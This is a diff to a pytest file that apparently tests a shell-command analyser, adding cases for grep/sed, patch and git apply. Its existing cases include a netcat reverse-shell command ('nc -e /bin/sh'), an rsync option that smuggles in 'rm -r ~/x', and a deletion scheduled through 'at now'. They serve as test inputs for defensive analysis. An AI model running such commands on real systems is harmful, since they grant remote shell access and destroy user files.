@@ -33,6 +33,11 @@ import pytest
     ('rsync -e \'sh -c "rm -r ~/x"\' a host:b', ['rsync R:./a H:host', 'rm D:~/x']),
     ('nc -e /bin/sh 10.0.0.1 4444', ['nc H:10.0.0.1 <download', 'sh']),
     ("echo 'rm -r ~/x' | at now", ['echo', 'at', 'rm D:~/x &']),
+    ('grep -rl a src | xargs sed -i s/a/b/', ['grep R:./src', 'sed R:./src/*/(filtered) W:./src/*/(filtered)']),
+    ('patch -d ~ -p0 < e.patch', ['patch R:./e.patch W:~']),
+    ('patch -d sub -p0 < e.patch', ['patch R:./e.patch']),
+    ('git -C ~ apply e.patch', ['git R:~/e.patch W:~']),
+    ('git apply e.patch', ['git R:./e.patch']),
     ('make', ['make']),
     ('npm test', ['npm']),
 ])
